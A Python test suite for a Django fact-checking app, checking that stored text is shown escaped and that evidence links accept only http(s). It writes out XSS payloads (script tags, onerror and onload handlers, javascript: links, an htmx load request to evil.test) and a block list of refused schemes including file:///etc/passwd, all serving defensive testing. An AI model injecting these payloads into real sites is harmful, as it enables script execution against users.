"""Cross-site scripting: whatever people type is shown as text, never run as markup.

Every text a member can store (article title, body, outlet and source, category names and
descriptions, rating labels, claim notes, rationales, comments, evidence excerpts, document
references and links) is stored through the services with payloads that would run script, add an
event handler, make htmx fetch a URL or break out of an attribute if they reached the page
unescaped. Every page that shows them is read as HTML here, and the reader once more in Chromium.

Evidence links are a second door: only http:// and https:// links are accepted, and the ones shown
open with rel="noopener noreferrer".
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from types import SimpleNamespace

import pytest
from django.utils.html import escape
from playwright.sync_api import Page, expect

from reviews import services
from reviews.models import Article, AuditEvent, Category, Claim, Evidence, Review, Role, Team
from tests import test_browser
from tests.conftest import HTMX, client_for, make_user, row_counts
from tests.test_browser import log_in, open_reader

# The Playwright fixtures of the other browser tests: Chromium, a page that fails on script errors and
# refused content, and the transactional desk team with rita in it.
browser, page, desk, rita = test_browser.browser, test_browser.page, test_browser.desk, test_browser.rita

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    '"><svg onload=alert(3)>',
    "' onmouseover='alert(4)",
    '<a href="javascript:alert(5)">x</a>',
    '<div hx-get="http://evil.test/x" hx-trigger="load">',
    "</textarea></title><script>alert(6)</script>",
    "{{ 7*7 }}",
]
ALL = " ".join(PAYLOADS)
TEMPLATE_PAYLOAD = "{{ 7*7 }}"
# Evidence links are checked for their scheme only: a well-formed https link may still carry a
# payload that tries to break out of the href attribute.
PAYLOAD_URL = 'https://example.org/report?q="><svg onload=alert(7)>'

# Each stored text starts with a short label, so a page can be asked whether it shows *that* text;
# the first payload follows right after the label and survives the lists' truncation.
TITLE = f"T {ALL}"
OUTLET = f"O {PAYLOADS[0]} {PAYLOADS[2]}"  # outlet names are at most 200 characters
SOURCE = f"S {ALL}"
QUOTE = f"Q {ALL} was said by the ministry, according to reports."
BODY_REST = f"B {ALL} The governor said 12 people died."
NOTE = f"N {ALL}"
RATIONALE = f"R {ALL}"
DRAFT_RATIONALE = f"W {ALL}"
COMMENT = f"C {ALL}\nsecond line {PAYLOADS[0]}"
EXCERPT = f"E {ALL}"
DOCUMENT = f"D {ALL}"
CATEGORY_NAMES = [f"K{i} {payload}" for i, payload in enumerate(PAYLOADS)]
CATEGORY_DESCRIPTION = f"KD {ALL}"
RATING = f"L {PAYLOADS[2]}"  # rating labels are at most 50 characters


def article_text() -> str:
    return f"{TITLE}\n\n{QUOTE}\n\n{BODY_REST}\n"


# --- reading a page the way a browser would --------------------------------------------------------

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "srcset", "poster", "background"}
# The htmx attributes that make a request or run code; hx-confirm and the like only carry text.
HTMX_REQUESTING = (
    "hx-get",
    "hx-post",
    "hx-put",
    "hx-patch",
    "hx-delete",
    "hx-trigger",
    "hx-vals",
    "hx-headers",
    "hx-on",
)
DANGEROUS_SCHEME = re.compile(r"^\s*(javascript|vbscript|data)\s*:", re.IGNORECASE)


class _Markup(HTMLParser):
    """The elements, attributes and text a browser would build from the page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.scripts: list[tuple[dict[str, str], str]] = []
        self.texts: list[str] = []
        self._script: dict[str, str] | None = None

    def handle_starttag(self, tag, attrs):
        attrs = {name: value or "" for name, value in attrs}
        self.tags.append((tag, attrs))
        if tag == "script":
            self._script = attrs
            self.scripts.append((attrs, ""))

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_endtag(self, tag):
        if tag == "script":
            self._script = None

    def handle_data(self, data):
        if self._script is not None:
            attrs, text = self.scripts[-1]
            self.scripts[-1] = (attrs, text + data)
        else:
            self.texts.append(data)

    @property
    def text(self) -> str:
        return "".join(self.texts)


def parse(html: str) -> _Markup:
    markup = _Markup()
    markup.feed(html)
    markup.close()
    return markup


def assert_inert(html: str, where: str) -> _Markup:
    """No payload reached the page as markup: no script, handler, javascript: link or htmx attribute of ours."""
    for payload in PAYLOADS:
        if payload != TEMPLATE_PAYLOAD:
            assert payload not in html, f"{where}: unescaped payload {payload!r}"
    assert PAYLOAD_URL not in html, f"{where}: the evidence link broke out of its attribute"
    markup = parse(html)
    for tag, attrs in markup.tags:
        handlers = [name for name in attrs if name.startswith("on")]
        assert not handlers, f"{where}: <{tag}> carries event handler attributes {handlers}"
        for name, value in attrs.items():
            if name in URL_ATTRIBUTES:
                assert not DANGEROUS_SCHEME.match(value), f"{where}: <{tag} {name}={value!r}>"
            if name.removeprefix("data-").startswith(HTMX_REQUESTING):
                assert "evil.test" not in value and value != "load", f"{where}: <{tag} {name}={value!r}>"
        assert not (tag == "img" and attrs.get("src") == "x"), f"{where}: an injected <img src=x>"
        assert tag != "svg" or "onload" not in attrs, f"{where}: an injected <svg onload>"
    for attrs, code in markup.scripts:
        # Scripts are files; the admin's JSON data blocks are the only scripts written into a page.
        assert "src" in attrs or attrs.get("type") == "application/json", f"{where}: inline script {code[:80]!r}"
        assert "alert(" not in code, f"{where}: a payload inside a script: {code[:80]!r}"
    return markup


def shown(html: str, markup: _Markup, text: str) -> bool:
    """The text is on the page as text (possibly cut into several elements) or as an attribute value."""
    return text in markup.text or escape(text) in html


def external_links(html: str) -> list[dict[str, str]]:
    return [
        attrs
        for tag, attrs in parse(html).tags
        if tag == "a" and (attrs.get("target") == "_blank" or re.match(r"^\s*(https?:)?//", attrs.get("href", "")))
    ]


def assert_links_open_safely(html: str, where: str) -> None:
    for attrs in external_links(html):
        rel = set(attrs.get("rel", "").split())
        assert {"noopener", "noreferrer"} <= rel, f"{where}: {attrs.get('href')!r} opens with rel={rel or 'nothing'}"


# --- the stored payloads ----------------------------------------------------------------------------


@pytest.fixture
def stored(team, owner, moderator, reviewer, reviewer2, superuser) -> SimpleNamespace:
    """Every kind of text a member can write, each carrying every payload, in one team."""
    categories = [
        services.save_category(user=owner, team=team, name=name, colour="#ffcc80", description=CATEGORY_DESCRIPTION)
        for name in CATEGORY_NAMES
    ]
    rating = services.save_rating(user=owner, team=team, label=RATING, value=1, is_scored=True)
    result = services.import_article(
        team=team, data=article_text().encode(), source=SOURCE, actor=owner, title=TITLE, outlet_name=OUTLET
    )
    assert result.status == "imported", result.message
    article = result.article
    start = article.body.index(QUOTE)
    claim = services.tag_claim(
        user=reviewer, article=article, start=start, end=start + len(QUOTE), category=categories[0], note=NOTE
    )
    review = services.save_review(user=reviewer, claim=claim, rating=rating, rationale=RATIONALE, confidence=2)
    evidence = services.add_evidence(
        user=reviewer, review=review, url=PAYLOAD_URL, document_ref=DOCUMENT, excerpt=EXCERPT, stance="refutes"
    )
    services.submit_review(user=reviewer, review=review)
    draft = services.save_review(user=reviewer2, claim=claim, rating=rating, rationale=DRAFT_RATIONALE, confidence=1)
    comment = services.add_comment(user=reviewer2, claim=claim, body=COMMENT)
    rex, ruth = make_user("rex"), make_user("ruth")
    services.add_member(team=team, user=rex, role=Role.REVIEWER)
    # A second, differing submitted verdict: the claim is disputed and the agreement pages have data.
    services.add_member(team=team, user=ruth, role=Role.REVIEWER)
    false = team.ratings.get(slug="false")
    other = services.save_review(user=ruth, claim=claim, rating=false, rationale="", confidence=3)
    services.submit_review(user=ruth, review=other)
    services.assign(user=moderator, article=article, assignee=rex)
    services.assign(user=moderator, article=article, assignee=rex, claim=claim)
    return SimpleNamespace(
        team=team,
        article=article,
        claim=claim,
        review=review,
        draft=draft,
        evidence=evidence,
        comment=comment,
        categories=categories,
        rating=rating,
        users={"rita": reviewer, "remy": reviewer2, "mona": moderator, "olga": owner, "ada": superuser, "rex": rex},
    )


def test_the_payloads_are_stored_exactly_as_typed(stored):
    article = Article.objects.get(pk=stored.article.pk)
    assert (article.title, article.source, article.outlet.name) == (TITLE, SOURCE, OUTLET)
    assert QUOTE in article.body and BODY_REST in article.body
    claim = Claim.objects.get(pk=stored.claim.pk)
    assert (claim.quote, claim.note, claim.category.name) == (QUOTE, NOTE, CATEGORY_NAMES[0])
    assert Review.objects.get(pk=stored.review.pk).rationale == RATIONALE
    evidence = Evidence.objects.get(pk=stored.evidence.pk)
    assert (evidence.url, evidence.excerpt, evidence.document_ref) == (PAYLOAD_URL, EXCERPT, DOCUMENT)
    assert stored.comment.body == COMMENT
    assert sorted(Category.objects.filter(team=stored.team, name__startswith="K").values_list("name", flat=True)) == (
        sorted(CATEGORY_NAMES)
    )


# (page, who reads it, URL, sent by htmx, texts it must show)
APP_PAGES = [
    ("reader", "rita", "/articles/{a}/", False, [TITLE, OUTLET, SOURCE, QUOTE, BODY_REST, *CATEGORY_NAMES]),
    (
        "reader with the claim panel",
        "rita",
        "/articles/{a}/?claim={c}",
        False,
        [TITLE, QUOTE, NOTE, RATIONALE, EXCERPT, DOCUMENT, COMMENT.split("\n")[0], RATING, CATEGORY_NAMES[0]],
    ),
    (
        "claim panel of the reviewer",
        "rita",
        "/claims/{c}/",
        True,
        [QUOTE, NOTE, RATIONALE, EXCERPT, DOCUMENT, COMMENT.split("\n")[0], RATING, CATEGORY_NAMES[0]],
    ),
    ("claim panel with a draft in its textarea", "remy", "/claims/{c}/", True, [QUOTE, NOTE, DRAFT_RATIONALE]),
    (
        "claim panel of the moderator",
        "mona",
        "/claims/{c}/",
        True,
        [QUOTE, NOTE, RATIONALE, DOCUMENT, COMMENT.split("\n")[0], RATING],
    ),
    ("article list", "rita", "/articles/", False, [TITLE[:40], OUTLET]),
    ("claim list", "rita", "/claims/", False, [QUOTE[:40], TITLE[:40], CATEGORY_NAMES[0], OUTLET]),
    ("my queue", "rex", "/queue/", False, [TITLE, QUOTE[:40]]),
    ("moderation queue", "mona", "/moderation/", False, [QUOTE[:40], TITLE[:40]]),
    ("team activity", "mona", "/activity/", False, []),
    ("article history", "rita", "/articles/{a}/history/", False, [TITLE[:40]]),
    ("claim history", "rita", "/claims/{c}/history/", False, [QUOTE[:40]]),
    ("review history", "rita", "/reviews/{r}/history/", False, [RATIONALE[:40]]),
    ("team sources", "rita", "/sources/", False, []),
    ("article sources", "rita", "/articles/{a}/sources/", False, [TITLE[:40]]),
    ("claim sources", "rita", "/articles/{a}/sources/?claim={c}", False, [TITLE[:40], QUOTE]),
    ("team agreement", "mona", "/stats/", False, [CATEGORY_NAMES[0]]),
    ("verdict mix per outlet", "mona", "/stats/?basis=submitted", False, [RATING, OUTLET]),
    ("article agreement", "mona", "/articles/{a}/stats/", False, [TITLE]),
    ("team settings", "olga", "/team/", False, [*CATEGORY_NAMES, CATEGORY_DESCRIPTION, RATING]),
]


def url_for(template: str, stored) -> str:
    return template.format(a=stored.article.pk, c=stored.claim.pk, r=stored.review.pk)


@pytest.mark.parametrize(("name", "who", "url", "htmx", "texts"), APP_PAGES, ids=[entry[0] for entry in APP_PAGES])
def test_every_page_shows_the_stored_payloads_as_text_and_never_as_markup(stored, name, who, url, htmx, texts):
    response = client_for(stored.users[who]).get(url_for(url, stored), **(HTMX if htmx else {}))
    assert response.status_code == 200, name
    html = response.content.decode()
    markup = assert_inert(html, name)
    for text in texts:
        assert shown(html, markup, text), f"{name}: does not show {text[:60]!r} as text"
    assert_links_open_safely(html, name)


def test_the_activity_page_shows_the_payloads_as_text_in_its_summaries(stored):
    html = client_for(stored.users["mona"]).get("/activity/").content.decode()
    markup = assert_inert(html, "team activity")
    # The summaries name what changed by its title or quote.
    assert "<script>alert(1)</script>" in markup.text
    assert escape("<script>alert(1)</script>") in html


def test_the_reader_body_is_the_stored_text_character_for_character(stored):
    html = client_for(stored.users["rita"]).get(f"/articles/{stored.article.pk}/").content.decode()
    start = html.index('id="article-text"')
    body_html = html[html.index(">", start) + 1 : html.index('<section class="claim-list">', start)]
    body_html = body_html[: body_html.rindex("</div>")]
    assert parse(body_html).text == stored.article.body
    tags = {tag for tag, _ in parse(body_html).tags}
    assert tags <= {"span", "mark"}, f"the body contains elements of its own: {tags}"


ADMIN_PAGES = [
    ("article change", "/admin/reviews/article/{a}/change/", [TITLE, SOURCE, QUOTE, BODY_REST]),
    ("claim change", "/admin/reviews/claim/{c}/change/", [NOTE, QUOTE[:40]]),
    ("review change", "/admin/reviews/review/{r}/change/", [RATIONALE, EXCERPT, DOCUMENT, PAYLOAD_URL]),
    ("evidence view", "/admin/reviews/evidence/{e}/change/", [EXCERPT, DOCUMENT, PAYLOAD_URL]),
    ("comment view", "/admin/reviews/comment/{m}/change/", [COMMENT.split("\n")[0]]),
    ("category change", "/admin/reviews/category/{k}/change/", [CATEGORY_NAMES[0], CATEGORY_DESCRIPTION]),
    ("rating change", "/admin/reviews/rating/{l}/change/", [RATING]),
    ("outlet change", "/admin/reviews/outlet/{o}/change/", [OUTLET]),
    ("audit event view", "/admin/reviews/auditevent/{v}/change/", []),
    ("article list", "/admin/reviews/article/", [TITLE[:40]]),
    ("claim list", "/admin/reviews/claim/", [QUOTE[:40]]),
    ("review list", "/admin/reviews/review/", []),
    ("evidence list", "/admin/reviews/evidence/", []),
    ("comment list", "/admin/reviews/comment/", []),
    ("category list", "/admin/reviews/category/", [CATEGORY_NAMES[0]]),
    ("audit list", "/admin/reviews/auditevent/", []),
    ("suggestion list", "/admin/reviews/suggestion/", []),
]


@pytest.mark.parametrize(("name", "url", "texts"), ADMIN_PAGES, ids=[entry[0] for entry in ADMIN_PAGES])
def test_every_admin_page_shows_the_stored_payloads_as_text_and_never_as_markup(stored, name, url, texts):
    event = AuditEvent.objects.filter(object_type="reviews.review", object_id=str(stored.review.pk)).last()
    assert event is not None
    url = url.format(
        a=stored.article.pk,
        c=stored.claim.pk,
        r=stored.review.pk,
        e=stored.evidence.pk,
        m=stored.comment.pk,
        k=stored.categories[0].pk,
        l=stored.rating.pk,
        o=stored.article.outlet_id,
        v=event.pk,
    )
    response = client_for(stored.users["ada"]).get(url)
    assert response.status_code == 200, name
    html = response.content.decode()
    markup = assert_inert(html, f"admin {name}")
    for text in texts:
        assert shown(html, markup, text), f"admin {name}: does not show {text[:60]!r} as text"


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(
    ("path", "parameter", "echoed"),
    [("/articles/", "q", True), ("/claims/", "q", True), ("/activity/", "actor", False), ("/activity/", "page", None)],
)
def test_a_payload_in_a_search_or_filter_is_echoed_as_text_if_at_all(stored, path, parameter, echoed, payload):
    response = client_for(stored.users["mona"]).get(path, {parameter: payload})
    assert response.status_code == 200
    html = response.content.decode()
    assert_inert(html, f"{path}?{parameter}=")
    if echoed is not None:  # a page number is not echoed, but the page lists the stored payloads
        assert shown(html, parse(html), payload) == echoed


def test_a_refused_category_name_is_echoed_in_the_message_as_text(stored):
    # "too close to the existing category" repeats both names in the flash message.
    response = client_for(stored.users["olga"]).post(
        "/team/categories/add/",
        {"name": CATEGORY_NAMES[0] + " ", "colour": "#000000", "description": "", "position": ""},
        **HTMX,
    )
    html = response.content.decode()
    assert_inert(html, "category refusal")
    assert escape(f"“{CATEGORY_NAMES[0]}” is too close") in html


def test_the_reader_and_panel_send_no_payload_in_response_headers(stored):
    client = client_for(stored.users["rita"])
    for url in (f"/articles/{stored.article.pk}/", f"/claims/{stored.claim.pk}/"):
        response = client.get(url, **HTMX)
        for header, value in response.headers.items():
            assert "evil.test" not in value and "<script" not in value, f"{url}: {header}: {value[:80]}"


# --- evidence links ---------------------------------------------------------------------------------

REFUSED_URLS = [
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "ftp://x",
    "JaVaScRiPt:alert(1)",
    "//evil.test",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "javascript://evil.test/%0aalert(1)",
    "file:///etc/passwd",
    "evil.test/x",
]


@pytest.mark.parametrize("url", REFUSED_URLS)
@pytest.mark.parametrize("htmx", [True, False], ids=["htmx", "plain"])
def test_an_evidence_link_that_is_not_http_or_https_is_refused_and_nothing_is_stored(
    review, reviewer, claim, url, htmx
):
    before = row_counts()
    response = client_for(reviewer).post(
        f"/claims/{claim.pk}/evidence/", {"url": url, "excerpt": "x", "stance": "refutes"}, **(HTMX if htmx else {})
    )
    assert response.status_code == 200
    html = response.content.decode()
    assert "Enter an http:// or https:// link." in html
    assert row_counts() == before
    assert not Evidence.objects.filter(review=review).exists()
    assert_inert(html, f"refusal of {url!r}")


@pytest.mark.parametrize("url", REFUSED_URLS)
def test_the_evidence_service_refuses_the_same_links_whoever_calls_it(review, reviewer, url):
    before = row_counts()
    with pytest.raises(services.ActionRefused, match="must start with http:// or https://"):
        services.add_evidence(user=reviewer, review=review, url=url, stance="refutes")
    assert row_counts() == before


@pytest.mark.parametrize("url", REFUSED_URLS)
def test_changing_evidence_to_such_a_link_is_refused_and_the_link_stays(evidence, reviewer, url):
    with pytest.raises(services.ActionRefused, match="must start with http:// or https://"):
        services.update_evidence(
            user=reviewer, evidence=evidence, url=url, document_ref="", excerpt="", stance="refutes"
        )
    evidence.refresh_from_db()
    assert evidence.url.startswith("https://")


@pytest.mark.parametrize("url", ["http://example.org/a", "https://example.org/b", "HTTPS://example.org/c"])
def test_an_http_or_https_evidence_link_is_accepted_and_opens_without_opener_or_referrer(review, reviewer, claim, url):
    before = row_counts()
    response = client_for(reviewer).post(
        f"/claims/{claim.pk}/evidence/", {"url": url, "excerpt": "", "stance": "supports"}, **HTMX
    )
    assert response.status_code == 200
    assert Evidence.objects.filter(review=review).values_list("url", flat=True).get() == url
    assert row_counts()["evidence"] == before["evidence"] + 1
    html = response.content.decode()
    links = [attrs for tag, attrs in parse(html).tags if tag == "a" and attrs.get("href") == url]
    assert len(links) == 1
    assert links[0]["rel"].split() == ["noopener", "noreferrer"] and links[0]["target"] == "_blank"
    assert_links_open_safely(html, "panel after adding evidence")


def test_evidence_links_in_a_moderators_side_by_side_view_open_without_opener_or_referrer(stored):
    html = client_for(stored.users["mona"]).get(f"/claims/{stored.claim.pk}/", **HTMX).content.decode()
    links = [attrs for attrs in external_links(html) if attrs.get("href") == PAYLOAD_URL]
    assert links, "the moderator does not see the evidence link"
    assert_links_open_safely(html, "moderator's panel")


# --- in Chromium ------------------------------------------------------------------------------------


def _watch(page: Page) -> SimpleNamespace:
    seen = SimpleNamespace(dialogs=[], requests=[])

    def on_dialog(dialog):
        seen.dialogs.append(f"{dialog.type}: {dialog.message}")
        dialog.dismiss()

    page.on("dialog", on_dialog)
    page.on("request", lambda request: seen.requests.append(request.url))
    return seen


def _assert_nothing_ran(page: Page, seen: SimpleNamespace, live_url: str) -> None:
    page.wait_for_timeout(300)  # room for an htmx "load" trigger or an image error to fire
    assert seen.dialogs == [], f"a payload ran: {seen.dialogs}"
    evil = [url for url in seen.requests if "evil.test" in url or url.startswith(f"{live_url}/x") or "/x?" in url]
    assert evil == [], f"the page fetched injected URLs: {evil}"
    assert not [url for url in seen.requests if re.search(r"/articles/\d+/x$", url)], "an injected <img src=x> loaded"
    injected = page.evaluate(
        """() => ({
            handlers: document.querySelectorAll('[onerror], [onload], [onmouseover]').length,
            javascriptLinks: document.querySelectorAll('a[href^="javascript:" i]').length,
            evilHtmx: document.querySelectorAll('[hx-get*="evil.test"], [hx-trigger="load"]').length,
            inlineScripts: [...document.scripts].filter(s => !s.src).length,
            images: document.querySelectorAll('img[src="x"], svg[onload]').length,
        })"""
    )
    assert injected == {"handlers": 0, "javascriptLinks": 0, "evilHtmx": 0, "inlineScripts": 0, "images": 0}


@pytest.fixture
def xss_desk(desk: Team, rita) -> SimpleNamespace:
    """The payloads in the transactional desk team, where the live server can read them."""
    olga, remy = make_user("olga"), make_user("remy")
    services.add_member(team=desk, user=olga, role=Role.OWNER)
    services.add_member(team=desk, user=remy, role=Role.REVIEWER)
    category = services.save_category(user=olga, team=desk, name=CATEGORY_NAMES[0], colour="#ffcc80")
    rating = services.save_rating(user=olga, team=desk, label=RATING, value=1, is_scored=True)
    article = services.import_article(
        team=desk, data=article_text().encode(), source=SOURCE, actor=olga, title=TITLE, outlet_name=OUTLET
    ).article
    start = article.body.index(QUOTE)
    claim = services.tag_claim(
        user=rita, article=article, start=start, end=start + len(QUOTE), category=category, note=NOTE
    )
    review = services.save_review(user=rita, claim=claim, rating=rating, rationale=RATIONALE, confidence=2)
    services.add_evidence(
        user=rita, review=review, url=PAYLOAD_URL, document_ref=DOCUMENT, excerpt=EXCERPT, stance="refutes"
    )
    services.add_comment(user=remy, claim=claim, body=COMMENT)
    return SimpleNamespace(article=article, claim=claim, review=review)


@pytest.mark.browser
def test_in_chromium_the_payloads_are_visible_as_text_and_nothing_runs_or_leaves(
    page: Page, live_server, rita, xss_desk
):
    article, claim = xss_desk.article, xss_desk.claim
    seen = _watch(page)
    log_in(page, rita)
    expect(page.get_by_role("link", name=TITLE, exact=True)).to_have_count(1)
    _assert_nothing_ran(page, seen, live_server.url)

    open_reader(page, article)  # also checks that the body is the stored text, character for character
    expect(page.locator("h1.article-title")).to_have_text(TITLE)
    assert TITLE in page.title()
    expect(page.locator(".legend")).to_contain_text(CATEGORY_NAMES[0])
    page.locator("h1.article-title").hover()
    page.locator("#article-text").hover()
    _assert_nothing_ran(page, seen, live_server.url)

    # Open the claim the way a person does: click its highlight; htmx swaps the panel in.
    page.locator(f'#article-text mark[data-starts~="{claim.pk}"]').click()
    panel = page.locator("#claim-panel")
    expect(panel).to_have_attribute("data-claim", str(claim.pk))
    expect(panel.locator("blockquote.quote")).to_have_text(QUOTE)
    expect(panel.locator("p.note")).to_have_text(NOTE)
    expect(panel.locator("textarea[name=rationale]")).to_have_value(RATIONALE)
    expect(panel.locator("ul.evidence q")).to_have_text(EXCERPT)
    expect(panel.locator("ul.evidence")).to_contain_text(DOCUMENT)
    expect(panel.locator("ul.comments")).to_contain_text(COMMENT.split("\n")[0])
    expect(panel.get_by_text(PAYLOADS[0]).first).to_be_visible()
    link = panel.locator("ul.evidence a")
    expect(link).to_have_attribute("href", PAYLOAD_URL)
    expect(link).to_have_attribute("rel", "noopener noreferrer")
    for selector in ("blockquote.quote", "p.note", "ul.evidence q", "ul.comments p", "span.chip"):
        panel.locator(selector).first.hover()
    _assert_nothing_ran(page, seen, live_server.url)

    # The same panel as a whole page, as a link to the claim opens it.
    page.goto(f"/articles/{article.pk}/?claim={claim.pk}")
    expect(page.locator("#claim-panel p.note")).to_have_text(NOTE)
    expect(page.locator("#claim-panel ul.comments p")).to_contain_text(COMMENT.split("\n")[0])
    _assert_nothing_ran(page, seen, live_server.url)


@pytest.mark.browser
def test_in_chromium_a_javascript_evidence_link_typed_into_the_panel_is_refused(
    page: Page, live_server, rita, xss_desk
):
    article, claim = xss_desk.article, xss_desk.claim
    seen = _watch(page)
    log_in(page, rita)
    page.goto(f"/articles/{article.pk}/?claim={claim.pk}")
    panel = page.locator("#claim-panel")
    before = Evidence.objects.filter(review=xss_desk.review).count()

    for url in ("javascript:alert(8)", "JaVaScRiPt:alert(9)", "data:text/html,<script>alert(10)</script>"):
        panel.locator("input[name=url]").fill(url)
        panel.locator("textarea[name=excerpt]").fill("should not be stored")
        panel.get_by_role("button", name="Add evidence").click()
        expect(panel.locator(".evidence-form")).to_contain_text("Enter an http:// or https:// link.")
        panel = page.locator("#claim-panel")

    assert Evidence.objects.filter(review=xss_desk.review).count() == before
    expect(page.locator('a[href^="javascript:" i], a[href^="data:" i]')).to_have_count(0)
    _assert_nothing_ran(page, seen, live_server.url)
